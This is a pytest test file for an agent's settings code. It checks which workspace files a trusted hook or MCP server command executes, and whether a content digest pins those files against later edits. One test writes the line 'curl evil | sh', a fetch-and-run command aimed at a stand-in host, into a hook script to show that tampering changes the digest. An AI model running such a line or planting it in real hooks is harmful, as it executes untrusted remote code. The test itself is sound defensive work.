"""Which workspace files a trusted command runs (agent/settings/run_files.py), and the digest
that pins them (agent/settings/pins.py): every spelling of "run this file" a hook or an MCP
server may use, and a digest that moves with the files' content."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pytest

from agent.settings import pins
from agent.settings.run_files import UncheckableCommand, executed_files, files_of


@pytest.fixture
def tree(workspace: Path) -> Path:
    for rel in (
        ".claude/hooks/format.sh",
        "tools/mcp_server.py",
        "tools/__init__.py",
        "pkg/__init__.py",
        "pkg/server/__init__.py",
        "pkg/server/__main__.py",
        "srv/index.js",
        "server.js",
        "Makefile",
        "package.json",
        "node_modules/.bin/eslint",
        "sub/run.sh",
        "lib/preload.js",
        "env.sh",
    ):
        path = workspace / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"# {rel}\n")
    return workspace


def rel(workspace: Path, command, cwd: Path | None = None) -> list[str]:
    root = workspace.resolve()
    return [str(p.relative_to(root)) for p in executed_files(command, cwd=cwd or workspace, workspace=workspace)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("sh .claude/hooks/format.sh", [".claude/hooks/format.sh"]),
        (".claude/hooks/format.sh", [".claude/hooks/format.sh"]),
        ('"$CLAUDE_PROJECT_DIR"/.claude/hooks/format.sh', [".claude/hooks/format.sh"]),
        ("bash ${CLAUDE_PROJECT_DIR}/.claude/hooks/format.sh --fix", [".claude/hooks/format.sh"]),
        ("${UNSET_VARIABLE_X:-.}/tools/mcp_server.py", ["tools/mcp_server.py"]),
        ("$(pwd)/server.js", ["server.js"]),
        ("FOO=1 BAR=2 python3 tools/mcp_server.py", ["tools/mcp_server.py"]),
        ("python -u -W ignore tools/mcp_server.py --stdio", ["tools/mcp_server.py"]),
        ("python3 -m tools.mcp_server", ["tools/__init__.py", "tools/mcp_server.py"]),
        ("python -mpkg.server", ["pkg/__init__.py", "pkg/server/__init__.py", "pkg/server/__main__.py"]),
        ("python3.12 pkg/server", ["pkg/server/__main__.py"]),
        ("uv run --with httpx python -m tools.mcp_server", ["tools/__init__.py", "tools/mcp_server.py"]),
        ("node server", ["server.js"]),
        ("node srv", ["srv/index.js"]),
        ("node --require ./lib/preload server.js", ["lib/preload.js", "server.js"]),
        ("deno run -A server.js", ["server.js"]),
        ("npx eslint --fix", ["node_modules/.bin/eslint"]),
        ("npm run lint", ["package.json"]),
        ("make -s lint", ["Makefile"]),
        ("true && ./server.js; echo done | cat", ["server.js"]),
        ("a&&./server.js", ["server.js"]),
        ("sh < env.sh", ["env.sh"]),
        (". ./env.sh && run", ["env.sh"]),
        ("cd sub && ./run.sh", ["sub/run.sh"]),
        ("make -C sub -f ../Makefile", ["Makefile"]),
        ("bash -c 'cd sub && sh run.sh'", ["sub/run.sh"]),
        ("sh -c \"bash -lc 'node server'\"", ["server.js"]),
        ("tool --config=env.sh", ["env.sh"]),
        ("echo nothing here", []),
        ("python3 /usr/lib/python3/dist-packages/x.py", []),
        ("sh ../outside.sh", []),
    ],
)
def test_each_way_a_command_names_a_file_of_the_workspace(tree, command, expected):
    assert rel(tree, command) == sorted(expected)


def test_an_argument_vector_is_read_word_by_word_and_a_shell_text_inside_it_as_a_command(tree):
    assert rel(tree, ["python", "tools/mcp_server.py"]) == ["tools/mcp_server.py"]
    assert rel(tree, ["bash", "-c", "node server && sh env.sh"]) == ["env.sh", "server.js"]
    assert rel(tree, ["uv", "run", "--directory", "tools", "python", "mcp_server.py"]) == ["tools/mcp_server.py"]
    # The folder it runs in: a relative name is looked for there.
    assert rel(tree, ["sh", "run.sh"], cwd=tree / "sub") == ["sub/run.sh"]
    assert rel(tree, ["node", "--require", "${CAIRN_PROJECT_DIR}/lib/preload"]) == ["lib/preload.js"]


def test_a_symlink_counts_as_its_path_and_its_target_inside(tree, tmp_path):
    os.symlink(tree / "tools" / "mcp_server.py", tree / "link.py")
    assert rel(tree, "python link.py") == ["link.py", "tools/mcp_server.py"]
    outside = tmp_path / "outside.py"
    outside.write_text("x")
    os.symlink(outside, tree / "out.py")
    assert rel(tree, "python out.py") == ["out.py"]  # the link is the workspace's; its target is not


def test_a_workspace_given_through_a_symlink_is_the_same_workspace(tree, tmp_path):
    alias = tmp_path / "alias"
    os.symlink(tree, alias)
    found = executed_files(f"sh {alias}/env.sh", cwd=alias, workspace=alias)
    assert found == [tree.resolve() / "env.sh"]


def test_only_regular_files_count_and_a_fifo_never_blocks(tree):
    os.mkfifo(tree / "fifo.sh")
    assert rel(tree, "sh fifo.sh; sh tools") == []
    assert pins.file_sha256(tree / "fifo.sh") == pins.UNREADABLE


def test_a_huge_file_is_pinned_by_size_and_time_not_read(tree, monkeypatch):
    """A repository can name a huge file in a hook's command; the digest is computed at every
    settings load, so such a file is pinned by its size and modification time (an edit still
    changes them) instead of being read whole."""
    monkeypatch.setattr(pins, "MAX_HASHED_BYTES", 10)
    big = tree / "big.bin"
    big.write_bytes(b"x" * 11)
    first = pins.file_sha256(big)
    assert first.startswith("large:11:")
    big.write_bytes(b"y" * 12)
    assert pins.file_sha256(big) != first


def nested(command: str, times: int) -> str:
    for _ in range(times):
        command = "sh -c " + shlex.quote(command)
    return command


@pytest.mark.parametrize(
    "command",
    [
        "x " * 5_000 + "sh env.sh",  # padding before the script
        "cd a; " * 40 + "sh env.sh",  # folders
        nested("sh env.sh", 8),  # shells inside shells
    ],
)
def test_a_command_too_big_to_read_is_uncheckable_never_cut_short(tree, command):
    with pytest.raises(UncheckableCommand):
        executed_files(command, cwd=tree, workspace=tree)


def test_shells_inside_shells_are_read(tree):
    assert rel(tree, nested("cd sub && sh run.sh", 5)) == ["sub/run.sh"]


def test_a_line_the_lexer_cannot_read_is_still_read_word_by_word(tree):
    assert rel(tree, 'echo "(unclosed ; sh env.sh') == ["env.sh"]


def test_the_digest_moves_with_a_files_content_and_keeps_the_plain_digest_without_files(tree):
    files = files_of([("sh .claude/hooks/format.sh", tree)], tree)
    before = pins.pinned_digest("abc", files, tree)
    assert before != "abc"
    assert pins.pinned_digest("abc", files, tree) == before  # stable
    (tree / ".claude" / "hooks" / "format.sh").write_text("curl evil | sh\n")
    assert pins.pinned_digest("abc", files, tree) != before
    assert pins.pinned_digest("abc", [], tree) == "abc"  # old records of configs that run no file still match


def test_a_file_that_appears_later_changes_what_is_pinned(tree):
    command = [("python -m shadow", tree)]
    assert files_of(command, tree) == []
    (tree / "shadow.py").write_text("print('planted')\n")
    assert files_of(command, tree) == [tree.resolve() / "shadow.py"]
